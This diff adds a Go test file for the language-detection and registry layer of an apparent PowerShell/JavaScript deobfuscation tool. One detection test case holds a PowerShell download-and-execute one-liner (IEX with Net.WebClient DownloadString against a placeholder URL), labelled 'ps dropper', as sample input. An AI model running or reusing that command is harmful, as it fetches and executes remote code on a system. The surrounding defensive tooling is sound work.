@@ -1,0 +1,196 @@
+package frontend
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
+	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
+)
+
+// stubFrontend is a minimal Frontend for registry and hook tests.
+type stubFrontend struct {
+	Base
+	name string
+}
+
+func (f stubFrontend) Name() string                     { return f.name }
+func (f stubFrontend) Tokenize(src string) (any, error) { return []string{src}, nil }
+func (f stubFrontend) Parse(src string) (any, error) {
+	if strings.Contains(src, "INVALID") {
+		return nil, fmt.Errorf("stub: bad syntax")
+	}
+	return &src, nil
+}
+func (f stubFrontend) LayerPasses(r *Run) []pipeline.Pass { return nil }
+
+// hookedFrontend additionally implements both capability hooks.
+type hookedFrontend struct {
+	stubFrontend
+	valid       bool
+	recoverable bool
+}
+
+func (f hookedFrontend) Valid(src string) bool       { return f.valid }
+func (f hookedFrontend) HasRecoverable(ast any) bool { return f.recoverable }
+func (f hookedFrontend) Capabilities() Capabilities {
+	// Deliberately the opposite of the hook's answer, to prove the hook
+	// wins over the static capability bit.
+	return Capabilities{RecoverableNodes: !f.recoverable}
+}
+
+func TestRegisterAndGet(t *testing.T) {
+	fe := stubFrontend{name: "stublang"}
+	Register(fe)
+	got, err := Get("stublang")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got.Name() != "stublang" {
+		t.Errorf("Get returned %q", got.Name())
+	}
+	// Case-insensitive lookup.
+	if _, err := Get("  StubLang "); err != nil {
+		t.Errorf("case/space-normalized lookup failed: %v", err)
+	}
+	found := false
+	for _, n := range Names() {
+		if n == "stublang" {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("Names() = %v, missing stublang", Names())
+	}
+}
+
+func TestDuplicateRegistrationPanics(t *testing.T) {
+	defer func() {
+		if recover() == nil {
+			t.Error("duplicate registration did not panic")
+		}
+	}()
+	Register(stubFrontend{name: "duplang"})
+	Register(stubFrontend{name: "duplang"})
+}
+
+func TestGetUnknownWrapsErrBadLang(t *testing.T) {
+	_, err := Get("cobol")
+	if err == nil {
+		t.Fatal("unknown language resolved")
+	}
+	if !errors.Is(err, limits.ErrBadLang) {
+		t.Errorf("err = %v, want ErrBadLang in chain", err)
+	}
+	if !strings.Contains(err.Error(), "cobol") {
+		t.Errorf("error does not name the offending language: %v", err)
+	}
+}
+
+func TestNormalizeAliases(t *testing.T) {
+	tests := map[string]string{
+		"ps":           "powershell",
+		"PS1":          "powershell",
+		"pwsh":         "powershell",
+		" PowerShell ": "powershell",
+		"js":           "javascript",
+		"ECMAScript":   "javascript",
+		"javascript":   "javascript",
+		"unknown":      "unknown",
+	}
+	for in, want := range tests {
+		if got := Normalize(in); got != want {
+			t.Errorf("Normalize(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestBaseDefaults(t *testing.T) {
+	fe := stubFrontend{name: "defaults"}
+	if _, err := fe.Evaluate(context.Background(), "x", nil, EvalBudget{}); !errors.Is(err, ErrUnsupported) {
+		t.Errorf("Base.Evaluate err = %v, want ErrUnsupported", err)
+	}
+	if _, ok := fe.Render("v"); ok {
+		t.Error("Base.Render accepted a value")
+	}
+	// Scalars copy, reference types are refused.
+	if cp, ok := fe.CopyValue("s"); !ok || cp != "s" {
+		t.Errorf("Base.CopyValue scalar = %v/%t", cp, ok)
+	}
+	if _, ok := fe.CopyValue([]any{1}); ok {
+		t.Error("Base.CopyValue accepted a slice")
+	}
+	if fe.ValueSize("abcd") != 4+16 {
+		t.Errorf("Base.ValueSize = %d", fe.ValueSize("abcd"))
+	}
+	if fe.DefaultBlocklist() != nil {
+		t.Error("Base.DefaultBlocklist not nil")
+	}
+	if fe.Capabilities() != (Capabilities{}) {
+		t.Error("Base.Capabilities not zero")
+	}
+	if fe.FinalPasses(nil) != nil {
+		t.Error("Base.FinalPasses not nil")
+	}
+}
+
+func TestValidHookFallback(t *testing.T) {
+	plain := stubFrontend{name: "plain"}
+	// Without the hook, Valid falls back to Parse.
+	if !Valid(plain, "fine") {
+		t.Error("parse-based Valid rejected good input")
+	}
+	if Valid(plain, "INVALID") {
+		t.Error("parse-based Valid accepted bad input")
+	}
+	// With the hook, the hook's answer wins even when Parse disagrees.
+	hooked := hookedFrontend{stubFrontend: stubFrontend{name: "hooked"}, valid: false}
+	if Valid(hooked, "fine") {
+		t.Error("ValidityChecker hook was bypassed")
+	}
+}
+
+func TestHasRecoverableHookFallback(t *testing.T) {
+	// Without the hook: the static capability bit.
+	plain := stubFrontend{name: "plain"}
+	if HasRecoverable(plain, nil) {
+		t.Error("zero-capability frontend reported recoverable nodes")
+	}
+	// With the hook: the hook's per-AST answer wins over the bit.
+	hooked := hookedFrontend{stubFrontend: stubFrontend{name: "hooked"}, recoverable: true}
+	if !HasRecoverable(hooked, nil) {
+		t.Error("RecoverableDetector hook was bypassed")
+	}
+}
+
+func TestDetect(t *testing.T) {
+	tests := []struct {
+		name, src, want string
+	}{
+		{"empty defaults to powershell", "", "powershell"},
+		{"node shebang", "#!/usr/bin/env node\n1+1", "javascript"},
+		{"pwsh shebang", "#!/usr/bin/env pwsh\nWrite-Host hi", "powershell"},
+		{"bom then shebang", "\uFEFF#!/usr/bin/env node\nx", "javascript"},
+		{"powershell idioms", "$a = 'x'; Write-Host $a -join ','", "powershell"},
+		{"javascript idioms", "var x = String.fromCharCode(104); console.log(x.split(''))", "javascript"},
+		{"js dropper", "eval(unescape('%68%69')); document.write(atob('aGk='))", "javascript"},
+		{"ps dropper", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "powershell"},
+		{"ambiguous defaults to powershell", "hello world", "powershell"},
+		// Mixed signals: PowerShell variables plus one JS-ish token still
+		// lean PowerShell (js must win strictly).
+		{"mixed leans powershell", "$v = 'function(' + $x -join ''", "powershell"},
+	}
+	for _, tt := range tests {
+		if got := Detect(tt.src); got != tt.want {
+			t.Errorf("%s: Detect = %q, want %q", tt.name, got, tt.want)
+		}
+	}
+	// Oversize input: only the window is scanned (no crash, a result).
+	big := strings.Repeat(" ", detectWindow) + "var x = String.fromCharCode(1)"
+	if got := Detect(big); got != "powershell" {
+		t.Errorf("signals beyond the window changed the vote: %q", got)
+	}
+}
